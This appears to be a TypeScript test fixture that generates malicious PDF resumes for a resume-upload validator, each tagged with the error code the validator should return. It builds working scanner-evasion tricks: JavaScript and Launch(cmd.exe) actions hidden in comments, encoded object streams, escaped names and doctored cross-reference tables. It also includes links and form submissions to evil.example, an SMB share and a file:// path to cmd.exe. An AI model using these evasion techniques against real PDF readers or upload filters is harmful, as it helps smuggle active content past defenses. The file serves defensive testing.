import { deflateSync } from 'node:zlib';
import { type PdfObject, pdfFrom, pdfOf } from '../resume-files.ts';
import type { MaliciousFile } from './malicious-file.ts';

const RESUME = 'Jordan Roy\nOffice clerk';
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** Where pdfOf puts the first of the other objects. */
const FIRST = 6;

/** With objects beside those of the page, which the catalogue leads to. */
const leadingTo = (catalogue: string, ...others: PdfObject[]) =>
  pdfOf(RESUME, { catalogue, others });

/** With annotations on its page. */
const annotated = (...annotations: PdfObject[]) =>
  pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>',
    ...annotations,
  ]);

const link = (action: string) =>
  annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] ${action} >>`);

/** With a table of its own for one object, which readers believe before what stands at its head. */
function retabled(file: Buffer, id: number, row: number[]): Buffer {
  const before = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(file.toString('latin1'))?.[1];
  const table = `/Type /XRef /Size 99 /Root 1 0 R /Prev ${before} /Index [${id} 1] /W [1 2 1]`;
  const text = `98 0 obj\n<< ${table} /Filter /ASCIIHexDecode /Length 9 >>\nstream\n${Buffer.from(row).toString('hex')}>\nendstream\nendobj\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.concat([file, Buffer.from(text)]);
}

/** With the table of an object that begins at this text, which may be within the head of another. */
function beginningAt(file: Buffer, id: number, text: string): Buffer {
  const at = file.indexOf(text) + text.length - `${id}`.length;
  return retabled(file, id, [1, at >> 8, at & 255, 0]);
}

/** Object 7, packed into object 6, with the table by which a reader finds it there. */
function packed(stream: Buffer, filter: string, dictionary = '/Type /ObjStm'): Buffer {
  const objects = { dictionary: `${dictionary} /N 1 /First 4 /Filter ${filter}`, stream };
  return retabled(leadingTo('/OpenAction 7 0 R', objects), 7, [2, 0, FIRST, 0]);
}

const PACKED = Buffer.from(`7 0 ${SCRIPT}`);
const hexOf = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);

function base85Of(bytes: Buffer): Buffer {
  let digits = '';
  for (let at = 0; at < bytes.length; at += 4) {
    const group = Buffer.concat([bytes.subarray(at, at + 4), Buffer.alloc(4)]).readUInt32BE(0);
    const all = [85 ** 4, 85 ** 3, 85 ** 2, 85, 1].map((power) => Math.floor(group / power) % 85);
    const length = Math.min(4, bytes.length - at) + 1;
    digits += String.fromCharCode(...all.slice(0, length).map((digit) => digit + 33));
  }
  return Buffer.from(`${digits}~>`);
}

/** Codes of 9 bits that stand for themselves, with the table emptied before it grows to 10 bits. */
function lzwOf(bytes: Buffer): Buffer {
  const codes = [...bytes].flatMap((byte, index) => (index % 200 === 0 ? [256, byte] : [byte]));
  const bits = [...codes, 257].map((code) => code.toString(2).padStart(9, '0')).join('');
  return Buffer.from(
    (bits.match(/.{1,8}/g) ?? []).map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)),
  );
}

/** A text as it lies; a script where "7" is taken for the length of a run of 56 bytes. */
const OF_TWO_READINGS = `77 0 (${SCRIPT.padEnd(51)})`;

/** A link that runs a program, by the word that is object 6. */
const LAUNCHED = '<< /Subtype /Link /Rect [0 0 99 99] /A << /S 6 0 R /F (cmd.exe) >> >>';
const NOTHING: string[] = Array.from({ length: 11 }, () => 'null');

/** With a second version of an object, as a program appends it. */
function appended(file: Buffer, objects: string, trailer = ''): Buffer {
  const before = /startxref\s+(\d+)/.exec(file.toString('latin1'))?.[1];
  const start = file.length + objects.length;
  return Buffer.concat([
    file,
    Buffer.from(
      `${objects}xref\n0 0\ntrailer\n<< /Size 20 /Root 1 0 R /Prev ${before} ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  ]);
}

/** With an object within a stream of the page, which only a table of offsets leads to. */
const within = (head: string, filter = '') =>
  leadingTo('/OpenAction 9 0 R', { dictionary: filter, stream: `${head} ${SCRIPT}\nendobj` });

const ACTIVE: Record<string, () => Buffer> = {
  'js-comment.pdf': () =>
    leadingTo('/OpenAction 6 0 R', '<< % (\n/S /JavaScript /JS 7 0 R\n% )\n>>', {
      dictionary: '',
      stream: 'app.alert(1)',
    }),
  'launch-comment.pdf': () =>
    leadingTo('/OpenAction 6 0 R', '<< % (\n/S /Launch /F <636d642e657865>\n% )\n>>'),
  'js-in-a-comment-line.pdf': () => leadingTo(`/OpenAction % \\(\n6 0 R`, `% (\n${SCRIPT}`),
  'packed-in-hex.pdf': () => packed(hexOf(PACKED), '/ASCIIHexDecode'),
  'packed-in-hex-and-flate.pdf': () =>
    packed(hexOf(deflateSync(PACKED)), '[/ASCIIHexDecode /FlateDecode]'),
  'packed-in-base85.pdf': () => packed(base85Of(PACKED), '/ASCII85Decode'),
  'packed-in-base85-and-flate.pdf': () => packed(base85Of(deflateSync(PACKED)), '[/A85 /Fl]'),
  'packed-in-lzw.pdf': () => packed(lzwOf(PACKED), '/LZWDecode'),
  'packed-in-runs.pdf': () =>
    packed(Buffer.concat([Buffer.from([PACKED.length - 1]), PACKED]), '/RunLengthDecode'),
  'packed-under-escaped-names.pdf': () => packed(deflateSync(PACKED), '/Fl#61teDecode'),
  'packed-without-type.pdf': () => packed(hexOf(PACKED), '/ASCIIHexDecode', ''),
  'packed-behind-a-long-dictionary.pdf': () =>
    packed(deflateSync(PACKED), '/FlateDecode', `/Type /ObjStm /Note (${' '.repeat(5_000)})`),
  'escaped-names.pdf': () => leadingTo('/Open#41ction << /#53 /#4a#61va#53cript /#4A#53 (x) >>'),
  'annotation.pdf': () => link(`/A ${SCRIPT}`),
  'annotation-aa.pdf': () => link('/AA << /E << /S /Named /N /NextPage >> >>'),
  'page-aa.pdf': () =>
    pdfOf(RESUME, { others: ['<< /Type /Page /AA << /O << /S /GoTo /D [5 0 R /Fit] >> >> >>'] }),
  'outline.pdf': () =>
    leadingTo('/Outlines 6 0 R', '<< /First 7 0 R /Last 7 0 R >>', `<< /Title (x) /A ${SCRIPT} >>`),
  'next-action.pdf': () =>
    link('/A << /S /URI /URI (https://people.example) /Next [<< /S /ImportData /F (x) >>] >>'),
  'names.pdf': () => leadingTo(`/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>`),
  'embedded-file.pdf': () => leadingTo('', { dictionary: '/Type /EmbeddedFile', stream: 'MZ' }),
  'attached-file.pdf': () => annotated('<< /Subtype /FileAttachment /Rect [0 0 9 9] >>'),
  'rich-media.pdf': () => annotated('<< /Subtype /RichMedia /Rect [0 0 9 9] >>'),
  'rendition.pdf': () => link('/A << /S /Rendition /OP 0 >>'),
  'unknown-action.pdf': () => link('/A << /S /Surprise >>'),
  'unknown-annotation.pdf': () => annotated('<< /Subtype /Surprise /Rect [0 0 9 9] >>'),
  'xfa.pdf': () => leadingTo('/AcroForm << /Fields [] /XFA 6 0 R >>', '<< >>'),
  'other-file.pdf': () => link('/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>'),
  'sent-form.pdf': () => link('/A << /S /SubmitForm /F (https://evil.example) >>'),
  'print-on-opening.pdf': () => leadingTo('/OpenAction << /S /Named /N /Print >>'),
  'script-address.pdf': () => link('/A << /S /URI /URI (java\\\nscript:app.alert\\(1\\)) >>'),
  'replaced-action.pdf': () =>
    appended(leadingTo('/OpenAction 6 0 R', SCRIPT), `${FIRST} 0 obj\nnull\nendobj\n`),
  'appended-action.pdf': () =>
    appended(leadingTo('/OpenAction 6 0 R', 'null'), `${FIRST} 0 obj% (\n${SCRIPT}\nendobj\n`),
  'of-two-tables.pdf': () =>
    appended(
      leadingTo('/OpenAction 7 0 R', {
        dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /AHx',
        stream: hexOf(PACKED),
      }),
      '',
      '/XRefStm 9',
    ),
  'launch-under-part-of-a-number.pdf': () =>
    beginningAt(annotated(LAUNCHED, 'null', '/URI', ...NOTHING.slice(2), '/Launch'), 6, '\n16'),
  'launch-under-another-number.pdf': () => {
    const objects = { dictionary: '/Type /ObjStm /N 1 /First 5', stream: '77 0 /Launch' };
    return retabled(annotated(LAUNCHED, objects), 6, [2, 0, 5, 0]);
  },
  'launch-under-a-commented-number.pdf': () =>
    beginningAt(appended(annotated(LAUNCHED), '8%6\n0 obj\n/Launch\nendobj\n'), 6, '8%6'),
  'launch-under-a-missing-number.pdf': () => annotated(LAUNCHED),
  'two-keys.pdf': () => link(`/A << /S /URI /URI (https://people.example) >> /A ${SCRIPT}`),
};

const BROKEN: Record<string, () => Buffer> = {
  'packed-under-a-packed-filter.pdf': () => {
    const filter = { dictionary: '/N 1 /First 4', stream: '9 0 /RunLengthDecode' };
    const objects = { dictionary: '/N 1 /First 5 /Filter [9 0 R]', stream: OF_TWO_READINGS };
    const file = leadingTo('/OpenAction 7 0 R', objects, 'null', filter);
    return retabled(retabled(file, 7, [2, 0, FIRST, 0]), 9, [2, 0, 8, 0]);
  },
  // "2[h" is the beginning of "7 %" before a 'z' that does not stand for itself.
  'packed-in-shifted-base85.pdf': () =>
    packed(Buffer.from(`${base85Of(Buffer.from('7 0 ')).subarray(0, 5)}2[hz~>`), '/A85'),
  'packed-under-unknown-filter.pdf': () => packed(PACKED, '/BrotliDecode'),
  'packed-under-reference.pdf': () =>
    leadingTo(
      '/OpenAction 7 0 R',
      { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter 8 0 R', stream: hexOf(PACKED) },
      'null',
      '/ASCIIHexDecode',
    ),
  'packed-with-predictor.pdf': () =>
    leadingTo('/OpenAction 7 0 R', {
      dictionary:
        '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
      stream: deflateSync(PACKED),
    }),
  'object-in-a-stream.pdf': () => within('9 0 obj'),
  'object-in-a-stream-oddly.pdf': () => within('9 +0%\nobj'),
  'object-in-a-comment.pdf': () =>
    appended(leadingTo('/OpenAction 9 0 R'), `% 9 0 obj ${SCRIPT} endobj\n`),
  'object-in-a-text.pdf': () => leadingTo('/OpenAction 9 0 R /Note (\n9 0 obj << >> endobj)'),
  'trailer-in-a-stream.pdf': () =>
    leadingTo('', { dictionary: '', stream: 'trailer << /Root 9 0 R >>' }),
  'between-objects.pdf': () => appended(pdfOf(RESUME), `${SCRIPT}\n`),
};

const withCode = (files: Record<string, () => Buffer>, code: MaliciousFile['code']) =>
  Object.fromEntries(Object.entries(files).map(([name, make]) => [name, { code, make }]));

/** PDFs with something active in a place, or under a cover, that a search for names does not see. */
export const ACTIVE_PDFS: Record<string, MaliciousFile> = {
  ...withCode(ACTIVE, 'RESUME_ACTIVE_CONTENT'),
  ...withCode(BROKEN, 'RESUME_BROKEN'),
  'link-to-a-file.pdf': {
    code: 'RESUME_UNSAFE',
    make: () => link('/A << /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>'),
  },
  'link-under-another-number.pdf': {
    code: 'RESUME_UNSAFE',
    make: () => {
      const action = '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI 6 0 R >> >>';
      const others = ['null', '(https://people.example)', ...NOTHING.slice(2)];
      return beginningAt(annotated(action, ...others, '(file:///C:/cmd.exe)'), 6, '\n16');
    },
  },
  'link-to-a-share.pdf': {
    code: 'RESUME_UNSAFE',
    make: () => link('/A << /S /URI /URI (\\\\\\\\evil.example\\\\share) >>'),
  },
  'stream-from-elsewhere.pdf': {
    code: 'RESUME_UNSAFE',
    make: () => leadingTo('', { dictionary: '/F (https://evil.example/x)', stream: '' }),
  },
};
